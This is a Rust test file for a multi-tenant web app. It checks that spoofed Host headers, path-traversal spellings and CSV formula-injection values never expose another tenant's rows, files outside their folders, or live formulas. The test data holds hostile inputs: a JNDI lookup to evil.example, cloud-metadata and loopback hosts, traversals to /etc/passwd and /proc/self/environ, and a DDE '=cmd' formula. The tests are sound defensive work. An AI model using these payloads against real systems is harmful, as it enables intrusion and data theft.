//! Corpora against the front door: hosts, paths, formulas. Tokens are forged in tenancy's tests, addresses that lie in outbound's, ids
//! of others are the neighbour's (`neighbour`), and what is hostile in a body is `bad_input`'s. `make attack` runs all of them at
//! length, with a browser and other people's tools beside them, and writes a report.
use axum::{
    body::{Body, to_bytes},
    http::{Method, Request},
};
use harness::{Company, Person, TestHouse};
use serde_json::json;
use tower::ServiceExt;
use tradewind::modules;

struct Said {
    status: u16,
    headers: String,
    text: String,
}

/// A request as it stands, without anything that the harness would mend.
async fn raw(house: &TestHouse, uri: &str, headers: &[(&str, &[u8])]) -> Option<Said> {
    let mut request = Request::builder().method(Method::GET).uri(uri);
    for (name, value) in headers {
        request = request.header(*name, axum::http::HeaderValue::from_bytes(value).ok()?);
    }
    // What HTTP itself cannot say never reaches us.
    let request = request.body(Body::empty()).ok()?;
    let Ok(response) = house.router.clone().oneshot(request).await;
    let (parts, body) = response.into_parts();
    let text = String::from_utf8_lossy(&to_bytes(body, 32 << 20).await.unwrap()).into_owned();
    Some(Said { status: parts.status.as_u16(), headers: format!("{:?}", parts.headers), text })
}

fn bearer(person: &Person<'_>) -> Vec<u8> {
    person.credential.clone().unwrap().1.into_bytes()
}

/// Hosts that are not ours to answer, and spellings of ours and of the neighbour's.
fn hosts(ours: &str, theirs: &str) -> Vec<String> {
    let (slug, base) = (ours.split('.').next().unwrap_or_default(), "tradewind.test");
    let (other, long) = (theirs.split('.').next().unwrap_or_default(), "a".repeat(70));
    let mut all: Vec<String> = [
        theirs.to_owned(),
        format!("{theirs}."),
        theirs.to_uppercase(),
        format!("{theirs}:80"),
        format!("{theirs}:99999"),
        format!("{ours}, {theirs}"),
        format!("{theirs}, {ours}"),
        format!("{ours} {theirs}"),
        format!("{ours}\t{theirs}"),
        format!("{ours}#{theirs}"),
        format!("{ours}@{theirs}"),
        format!("{slug}:x@{theirs}"),
        format!("http://{theirs}/"),
        format!("{theirs}/{ours}"),
        format!("{theirs}\\{ours}"),
        format!("{theirs}%00.{base}"),
        format!("{theirs}%2e{base}"),
        format!("{ours}.{theirs}"),
        format!("{slug}.{other}.{base}"),
        format!("{slug}.{base}.evil.example"),
        format!("evil.example.{base}"),
        format!("{slug}-{base}"),
        format!("{slug}..{base}"),
        format!(".{ours}"),
        format!("-{ours}"),
        format!("*.{base}"),
        format!("{long}.{base}"),
        format!("{}{base}", "a.".repeat(200)),
        "evil.example".into(),
        "evil.example:443".into(),
        "127.0.0.1".into(),
        "127.0.0.1:8080".into(),
        "[::1]".into(),
        "[::1]:80".into(),
        "[::ffff:127.0.0.1]".into(),
        "0x7f000001".into(),
        "2130706433".into(),
        "localhost".into(),
        "metadata.google.internal".into(),
        "169.254.169.254".into(),
        String::new(),
        " ".into(),
        ".".into(),
        "..".into(),
        ":".into(),
        ":80".into(),
        "[".into(),
        "]".into(),
        "' or 1=1 --".into(),
        "${jndi:ldap://evil.example/a}".into(),
        "<script>alert(1)</script>".into(),
        "xn--nxasmq6b".into(),
        format!("xn--{slug}.{base}"),
        "a\u{0130}.tradewind.test".into(),
        "x".repeat(20_000),
    ]
    .into();
    // Letters that fold to ours.
    all.push(format!("{}.{base}", slug.replace('a', "\u{ff41}")));
    all.push(ours.replace('.', "\u{3002}"));
    all
}

/// Whatever the host says, and whatever a forwarded one says beside it: our token opens our company's rows or nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_host_opens_another_company() {
    let house = harness::start(modules::list()).await;
    let mut asked = 0;
    for (ours, theirs) in [("pooled", "pooled"), ("pooled", "dedicated"), ("dedicated", "pooled")] {
        let (acme, neighbour) = (house.company(ours).await, house.company(theirs).await);
        let (owner, other) = (acme.person("owner").await, neighbour.person("owner").await);
        for (person, name) in [(&owner, "Ours Unmistakable"), (&other, "Theirs Unmistakable")] {
            assert_eq!(person.post("/api/v1/customers", json!({ "name": name })).await.status, 201);
        }
        let token = bearer(&owner);
        // The control: at home the token shows what is ours, and the neighbour's theirs.
        let home = |host: &str| [("host", host.as_bytes().to_vec())];
        for (host, token, name) in
            [(&acme.host, &token, "Ours Unmistakable"), (&neighbour.host, &bearer(&other), "Theirs Unmistakable")]
        {
            let host = home(host);
            let said =
                raw(&house, "/api/v1/customers", &[("host", &host[0].1), ("authorization", token)]).await.unwrap();
            assert!(said.status == 200 && said.text.contains(name), "{}", said.text);
        }
        for host in hosts(&acme.host, &neighbour.host) {
            for (name, at_home) in [
                ("host", false),
                ("x-forwarded-host", true),
                ("forwarded", true),
                ("x-host", true),
                ("x-original-host", true),
            ] {
                let value = if name == "forwarded" { format!("host=\"{host}\";proto=https") } else { host.clone() };
                for path in ["/api/v1/customers", "/customers", "/forgot", "/", "/sign-in"] {
                    let mut headers: Vec<(&str, &[u8])> =
                        vec![(name, value.as_bytes()), ("authorization", &token), ("accept", b"text/html")];
                    if at_home {
                        headers.push(("host", acme.host.as_bytes()));
                    }
                    let Some(said) = raw(&house, path, &headers).await else { continue };
                    asked += 1;
                    let what = format!("{path} with {name}: {host:.80}");
                    assert!(said.status < 500, "{what}: {} {}", said.status, said.text);
                    assert!(!said.text.contains("Theirs Unmistakable"), "{what} shows the neighbour's");
                    // A host that is nobody's never becomes part of an answer: no link, no redirect leads there.
                    for foreign in ["evil.example", "ldap://", "<script>alert"] {
                        let echoed =
                            host.contains(foreign) && (said.text.contains(foreign) || said.headers.contains(foreign));
                        assert!(!echoed, "{what} is repeated: {}", said.headers);
                    }
                    // At an address that is another's, nothing of ours is shown either.
                    if name == "host" && host.to_lowercase().trim_end_matches('.') == neighbour.host {
                        assert!(matches!(said.status, 401 | 403), "{what}: {}", said.status);
                    }
                }
            }
        }
        // Two hosts in one request, and one in the line of the request that differs from the header.
        let two = raw(
            &house,
            "/api/v1/customers",
            &[("host", neighbour.host.as_bytes()), ("host", acme.host.as_bytes()), ("authorization", &token)],
        )
        .await
        .unwrap();
        assert_eq!(two.status, 400, "two hosts");
        let absolute = format!("http://{}/api/v1/customers", neighbour.host);
        let said = raw(&house, &absolute, &[("host", acme.host.as_bytes()), ("authorization", &token)]).await.unwrap();
        assert!(
            matches!(said.status, 401 | 403),
            "the address in the line of the request is the one that counts: {}",
            said.status
        );
    }
    println!("{asked} requests with hosts that are not ours, no row of the neighbour's");
    assert!(asked > 2_000, "only {asked}");
}

/// Ways out of a folder, as they have been written.
fn ways() -> Vec<String> {
    let mut all: Vec<String> = vec![];
    let targets =
        ["etc/passwd", "secret", "postgres/postgresql.conf", "proc/self/environ", "Cargo.toml", "windows/win.ini"];
    for up in [
        "../",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%5c",
        "%252e%252e%252f",
        "....//",
        "..;/",
        "%c0%ae%c0%ae/",
        "..%c0%af",
        "..%ef%bc%8f",
        "%uff0e%uff0e/",
        ".%00./",
        "..%00/",
        "..%0d%0a/",
        "..\\",
        "\u{ff0e}\u{ff0e}/",
    ] {
        for target in targets {
            all.push(format!("{}{target}", up.repeat(6)));
            all.push(format!("{}{target}%00.png", up.repeat(3)));
        }
    }
    for target in targets {
        all.extend([
            format!("/{target}"),
            format!("//{target}"),
            format!("%2f{target}"),
            format!("file:///{target}"),
            format!("./././{target}"),
        ]);
    }
    all
}

/// No spelling of a path leads out of the assets, the files or the folder of data; what lies there has words of its own to be known by.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_path_leads_out_of_its_folder() {
    let house = harness::start(modules::list()).await;
    let acme = house.company("pooled").await;
    let owner = acme.person("owner").await;
    let secret = std::fs::read_to_string(house.ground.data_dir.join("secret")).unwrap();
    let words = ["root:x:0", "[workspace]", "unix_socket_directories", "PATH=/", secret.trim()];
    let looks = |text: &str| words.iter().find(|word| text.contains(**word)).copied();
    // The control: the words are those of the files.
    assert_eq!(looks(&std::fs::read_to_string("/etc/passwd").unwrap_or("root:x:0".into())), Some("root:x:0"));
    assert_eq!(
        looks(&std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../Cargo.toml")).unwrap()),
        Some("[workspace]")
    );
    assert_eq!(owner.get("/openapi.json").await.status, 200);

    let (token, id) = (bearer(&owner), kernel::Uuid::now_v7());
    let mut asked = 0;
    for way in ways() {
        for place in [
            format!("/assets/{way}"),
            format!("/files/{way}"),
            format!("/files/{id}/{way}"),
            format!("/{way}"),
            format!("/api/v1/customers/{way}"),
            format!("/api/v1/customers/{id}/files/{way}/content"),
            format!("/api/v1/exports/{way}/file"),
            format!("/estimate/{way}"),
            format!("/invoice/{way}/pdf"),
            format!("/calendar/{way}"),
            format!("/portal/enter/{way}"),
            format!("/files?path={way}&file={way}"),
        ] {
            let headers: [(&str, &[u8]); 2] = [("host", acme.host.as_bytes()), ("authorization", &token)];
            let Some(said) = raw(&house, &place, &headers).await else { continue };
            asked += 1;
            assert!(said.status < 500, "{place}: {} {}", said.status, said.text);
            assert_eq!(looks(&said.text), None, "{place} shows what lies outside");
            assert!(said.status >= 300, "{place} is answered: {} {:.200}", said.status, said.text);
        }
    }
    println!("{asked} ways out of a folder, none led anywhere");
    assert!(asked > 1_500, "only {asked}");
    names(&acme, &owner).await;
}

/// A file keeps its name as a word, never as a way: what is uploaded as `../../x` lies under its id.
async fn names(acme: &Company<'_>, owner: &Person<'_>) {
    let customer = owner.post("/api/v1/customers", json!({ "name": "Ways" })).await.id();
    let before = files(&acme.test.ground.data_dir);
    for name in [
        "../../../../tmp/tradewind-escaped.txt",
        "..\\\\..\\\\escaped.txt",
        "/etc/escaped.txt",
        "C:\\\\escaped.txt",
        "a/../../escaped.txt",
        "....//escaped.txt",
    ] {
        let body = format!(
            "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: text/plain\r\n\r\nescaped words\r\n--x--\r\n"
        );
        let media = [("content-type", "multipart/form-data; boundary=x")];
        let answer =
            owner.call(Method::POST, &format!("/api/v1/customers/{customer}/files"), &media, Body::from(body)).await;
        assert!(answer.status < 500, "{name}: {answer:?}");
    }
    assert!(
        !std::path::Path::new("/tmp/tradewind-escaped.txt").exists()
            && !std::path::Path::new("/etc/escaped.txt").exists()
    );
    let new: Vec<_> = files(&acme.test.ground.data_dir).into_iter().filter(|file| !before.contains(file)).collect();
    assert!(new.iter().all(|file| !file.contains("escaped")), "{new:#?}");
}

fn files(folder: &std::path::Path) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(folder) else { return vec![] };
    let paths = entries.flatten().map(|entry| entry.path());
    let found = paths.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path.display().to_string()] });
    found.filter(|path| !path.contains("/postgres/")).collect()
}

/// What a spreadsheet would calculate, written into names and notes: in every CSV that leaves it stands behind an apostrophe.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_of_an_export_is_a_formula() {
    let house = harness::start(modules::list()).await;
    let formulas = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "=1+1\";\"=2",
        "\n=1+1",
        "\u{ff1d}1+1",
    ];
    let calculates = |cell: &str| {
        let first = cell.trim_start_matches(['\u{feff}', '\u{a0}', ' ', '\n', '\r', '\t']).chars().next();
        // A figure of our own begins with a minus and is one.
        matches!(first, Some('=' | '+' | '@' | '-' | '\u{ff1d}'))
            && cell.parse::<f64>().is_err()
            && !cell.starts_with('\'')
    };
    assert!(formulas.iter().all(|formula| calculates(formula)), "the control: each would be calculated");
    harness::in_both_placements(&house, async |acme| {
        let owner = acme.person("owner").await;
        for formula in formulas {
            let made = owner.post("/api/v1/customers", json!({ "name": format!("{formula} Ltd"), "notes": formula })).await;
            assert!(matches!(made.status, 201 | 422), "{made:?}");
            let item = owner.post("/api/v1/items", json!({ "name": format!("{formula} item"), "kind": "service", "price": { "amount": "1.00", "currency": "USD" }, "duration_minutes": 60, "description": formula })).await;
            assert!(matches!(item.status, 201 | 422), "{item:?}");
        }
        let mut cells = 0;
        for list in ["customers", "items"] {
            let asked = owner.post("/api/v1/exports", json!({ "list": list, "format": "csv", "filter": {} })).await;
            assert_eq!(asked.status, 202, "{list}: {asked:?}");
            acme.test.run_jobs().await;
            let looked = owner.get(&format!("/api/v1/exports/{}", asked.id())).await;
            let link = looked.body["download"].as_str().unwrap_or_else(|| panic!("{looked:?}")).to_owned();
            let text = owner.get(&link).await.text;
            let mut reader = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
            for record in reader.records() {
                for cell in record.unwrap().iter() {
                    cells += 1;
                    assert!(!calculates(cell), "{list}: {cell:?} would be calculated");
                }
            }
            assert!(text.contains("'="), "{list}: the formulas are in the file, each behind an apostrophe");
        }
        println!("{cells} cells of CSV in {}, none a formula", acme.placement);
    })
    .await;
}
